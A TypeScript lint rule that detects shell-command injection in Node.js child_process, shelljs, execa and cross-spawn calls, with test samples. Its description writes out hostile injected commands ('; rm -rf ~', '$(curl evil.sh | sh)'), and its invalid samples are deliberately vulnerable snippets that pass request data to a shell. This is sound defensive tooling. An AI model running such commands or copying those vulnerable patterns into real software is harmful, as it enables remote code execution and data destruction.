import { propertyName, resolveCallee, staticValue, unwrap, type Binding } from '../ast.js';
import type { JsRule, Node, RuleSourceCode } from '../types.js';
import { findDeclaration, originOf, type Origin } from '../value-origin.js';
import { shorten } from '../message-text.js';

/**
 * Commands started with a string built at run time. Functions that hand the string to a
 * shell (exec, execSync, shelljs.exec) are a shell-injection risk whatever the value;
 * functions that take an argv array (spawn, execFile, fork, execa) are only a risk when the
 * program itself is chosen at run time, or when the program is a shell given `-c <dynamic>`.
 * `shell: true` is another rule's concern. Values quoted with shell-quote / shescape, numbers
 * and values fixed in the code are silent.
 */

type Kind = 'shell' | 'program' | 'command' | 'module';

interface Sink {
  readonly module: string;
  readonly path: string;
  readonly kind: Kind;
}

/** Every way to start a process we follow, by module and exported path. */
const SINKS: readonly Sink[] = [
  { module: 'child_process', path: 'exec', kind: 'shell' },
  { module: 'child_process', path: 'execSync', kind: 'shell' },
  { module: 'child_process', path: 'spawn', kind: 'program' },
  { module: 'child_process', path: 'spawnSync', kind: 'program' },
  { module: 'child_process', path: 'execFile', kind: 'program' },
  { module: 'child_process', path: 'execFileSync', kind: 'program' },
  { module: 'child_process', path: 'fork', kind: 'module' },
  { module: 'shelljs', path: 'exec', kind: 'shell' },
  { module: 'execa', path: '', kind: 'program' }, // execa 5: const execa = require('execa')
  { module: 'execa', path: 'execa', kind: 'program' },
  { module: 'execa', path: 'execaSync', kind: 'program' },
  { module: 'execa', path: 'sync', kind: 'program' },
  { module: 'execa', path: 'execaNode', kind: 'module' },
  { module: 'execa', path: 'node', kind: 'module' },
  // execaCommand splits the string on spaces: no shell, but every word is chosen by the value
  { module: 'execa', path: 'execaCommand', kind: 'command' },
  { module: 'execa', path: 'execaCommandSync', kind: 'command' },
  { module: 'execa', path: 'command', kind: 'command' },
  { module: 'execa', path: 'commandSync', kind: 'command' },
  { module: 'cross-spawn', path: '', kind: 'program' },
  { module: 'cross-spawn', path: 'sync', kind: 'program' },
];

/** Shell quoting that makes a value one literal word. */
const QUOTING_MODULES = new Set(['shell-quote', 'shell-escape', 'shescape', 'any-shell-escape', 'shell-escape-tag', 'shlex']);
const QUOTING_NAME = /^(shell_?)?(escape|quote)(_?shell)?(_?(arg|argument|args|arguments|all))?$/i;

function isShellQuoting(node: Node, sourceCode: RuleSourceCode): boolean {
  if (node.type !== 'CallExpression') return false;
  const b = resolveCallee(node.callee, sourceCode);
  if (b && QUOTING_MODULES.has(b.module)) return true;
  const callee = unwrap(node.callee);
  const name = callee?.type === 'Identifier' ? callee.name : callee?.type === 'MemberExpression' ? propertyName(callee.property, callee.computed) : undefined;
  if (!callee || !name || !QUOTING_NAME.test(name)) return false;
  // quote(x) / escapeShellArg(x), or a method of a quoting helper object (shellQuote.quote)
  const receiver = callee.type === 'MemberExpression' ? unwrap(callee.object) : undefined;
  return callee.type === 'Identifier' || (receiver?.type === 'Identifier' && /shell|quote|escape/i.test(receiver.name));
}

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'cmd', 'cmd.exe', 'powershell', 'powershell.exe', 'pwsh']);
const SHELL_SCRIPT_FLAGS = new Set(['-c', '/c', '/C', '-Command', '-command', '-lc', '-ic']);

function sinkOf(b: Binding | undefined): Sink | undefined {
  if (!b) return undefined;
  const path = b.path.filter((p) => p !== 'default').join('.');
  return SINKS.find((s) => s.module === b.module && s.path === path);
}

/** `const run = promisify(exec)`, `util.promisify(cp.execFile)`: the wrapped sink. */
function promisifiedSink(callee: Node, sourceCode: RuleSourceCode): Sink | undefined {
  const c = unwrap(callee);
  if (c?.type !== 'Identifier') return undefined;
  const d = findDeclaration(c.name, c);
  if (d?.kind !== 'const' || d.path.length > 0) return undefined;
  const init = unwrap(d.node.init);
  if (init?.type !== 'CallExpression' || init.arguments.length !== 1) return undefined;
  const wrapper = unwrap(init.callee);
  const wrapperName = wrapper?.type === 'Identifier' ? wrapper.name : wrapper?.type === 'MemberExpression' ? propertyName(wrapper.property, wrapper.computed) : undefined;
  if (wrapperName !== 'promisify') return undefined;
  return sinkOf(resolveCallee(init.arguments[0], sourceCode));
}

const CONFIDENCE: Record<Exclude<Origin, 'trusted'>, 'high' | 'medium' | 'low'> = { input: 'high', parameter: 'medium', unknown: 'medium' };
const WHERE: Record<Exclude<Origin, 'trusted'>, string> = {
  input: 'comes from the request',
  parameter: 'comes from a function parameter',
  unknown: 'is built at run time',
};

/** What goes wrong, by how the sink reads its first argument. */
const MESSAGES: Record<Kind, (fn: string, text: string, where: string) => string> = {
  shell: (fn, text, where) => `${fn}() runs \`${text}\` through a shell and the command ${where}; characters such as ; | $( ) in it start other commands.`,
  command: (fn, text, where) => `${fn}() splits \`${text}\` into a program and its arguments, and the string ${where}; whoever controls it chooses what runs.`,
  program: (fn, text, where) => `${fn}() starts the program \`${text}\`, which ${where}; whoever controls it chooses what runs.`,
  module: (fn, text, where) => `${fn}() runs the module \`${text}\`, which ${where}; whoever controls it chooses what code runs.`,
};

const rule: JsRule = {
  kind: 'js',
  meta: {
    id: 'child-process-non-literal',
    title: 'Process started with a command chosen at run time',
    practice: 7,
    cwe: 'CWE-78',
    severity: 'high',
    confidence: 'medium',
    description:
      'child_process.exec/execSync and shelljs.exec pass their string to /bin/sh, so any part built at run time can add commands (`; rm -rf ~`, `$(curl evil.sh | sh)`). spawn, execFile, fork and execa take the program and its arguments separately, which is safe for the arguments but not when the program itself, or the script given to `sh -c`, is chosen at run time.',
    fix: 'Use execFile or spawn with a fixed program and the values as separate array arguments (execFile("git", ["log", branch])); never build a shell string. If a shell is unavoidable, quote each value with shell-quote or shescape.',
  },
  samples: {
    valid: [
      "const { exec } = require('child_process');\nexec('git rev-parse HEAD', (err, out) => console.log(out));",
      "import { execFile } from 'node:child_process';\napp.post('/log', (req, res) => {\n  execFile('git', ['log', '--oneline', req.body.branch], (err, out) => res.send(out));\n});",
      "const match = /(\\d+)-(\\d+)/.exec(req.query.range);\nconst rows = db.exec(sql);\nconst { exec } = require('./database');\nexec(req.body.query);",
      "const cp = require('child_process');\nconst CMD = 'npm test';\ncp.execSync(CMD, { stdio: 'inherit' });\ncp.execSync(`kill -TERM ${Number(req.params.pid)}`);",
      "import { spawn, fork } from 'child_process';\nimport path from 'path';\nconst worker = fork(path.join(__dirname, 'worker.js'));\nconst child = spawn(process.execPath, ['--version']);",
      "const { quote } = require('shell-quote');\nconst { execSync } = require('child_process');\nexecSync(`convert ${quote([req.file.path])} out.png`);",
      { filename: 'sample.ts', code: "import { execa } from 'execa';\nexport async function build(target: string) {\n  await execa('npm', ['run', 'build', '--', target]);\n}" },
      "const shell = require('shelljs');\nshell.exec('npm ci --ignore-scripts');",
    ],
    invalid: [
      "const { exec } = require('child_process');\napp.get('/ping', (req, res) => {\n  exec('ping -c 1 ' + req.query.host, (err, out) => res.send(out));\n});",
      "import cp from 'node:child_process';\nexport function checkout(branch) {\n  return cp.execSync(`git checkout ${branch}`).toString();\n}",
      "const util = require('util');\nconst execAsync = util.promisify(require('child_process').exec);\nrouter.post('/convert', async (ctx) => {\n  const { name } = ctx.request.body;\n  await execAsync(`convert uploads/${name} out.png`);\n});",
      "const { spawn } = require('child_process');\nfunction run(tool, args) {\n  return spawn(tool, args);\n}",
      "const { spawn } = require('child_process');\napp.post('/run', (req, res) => {\n  spawn('sh', ['-c', req.body.script]).stdout.pipe(res);\n});",
      { filename: 'sample.ts', code: "import { execaCommand } from 'execa';\nexport const handler = async (event: { body: string }) => {\n  const { cmd } = JSON.parse(event.body) as { cmd: string };\n  return execaCommand(cmd);\n};" },
      "const shell = require('shelljs');\nmodule.exports = (dir) => shell.exec('rm -rf ' + dir);",
      "const { execSync } = require('child_process');\nconst config = loadConfig();\nexecSync(`${config.compiler} ${config.flags.join(' ')} src/main.c`);",
    ],
  },
  create(context) {
    const sourceCode = context.sourceCode;
    const originOfValue = (node: Node): Origin => originOf(node, sourceCode, { sanitizer: isShellQuoting });
    // `const run = promisify(exec)`: only worth a declaration lookup per call when the file says promisify.
    const mayPromisify = sourceCode.text.includes('promisify');
    return {
      CallExpression(node) {
        const sink = sinkOf(resolveCallee(node.callee, sourceCode)) ?? (mayPromisify ? promisifiedSink(node.callee, sourceCode) : undefined);
        if (!sink) return;
        const command = node.arguments[0];
        if (!command || command.type === 'SpreadElement') return;
        const name = sink.path === '' ? sink.module : sink.path;
        const origin = originOfValue(command);
        if (origin !== 'trusted') {
          const text = shorten(sourceCode.getText(command));
          context.report({ node: command, message: MESSAGES[sink.kind](name, text, WHERE[origin]), severity: sink.kind === 'shell' ? 'high' : 'medium', confidence: CONFIDENCE[origin] });
          return;
        }
        // spawn('sh', ['-c', script]): the script is a shell string again.
        const program = staticValue(command);
        const args = unwrap(node.arguments[1]);
        if (sink.kind !== 'program' || !program || !SHELLS.has(program.split('/').pop()!) || args?.type !== 'ArrayExpression') return;
        const flag = args.elements.findIndex((e: Node | null) => SHELL_SCRIPT_FLAGS.has(staticValue(e) ?? ''));
        const script = flag >= 0 ? args.elements[flag + 1] : undefined;
        if (!script || script.type === 'SpreadElement') return;
        const scriptOrigin = originOfValue(script);
        if (scriptOrigin === 'trusted') return;
        context.report({
          node: script,
          message: `${name}('${program}', ['${staticValue(args.elements[flag])}', ...]) runs a shell script that ${WHERE[scriptOrigin]}; characters such as ; | $( ) in it start other commands.`,
          severity: 'high',
          confidence: CONFIDENCE[scriptOrigin],
        });
      },
    };
  },
};

export default rule;
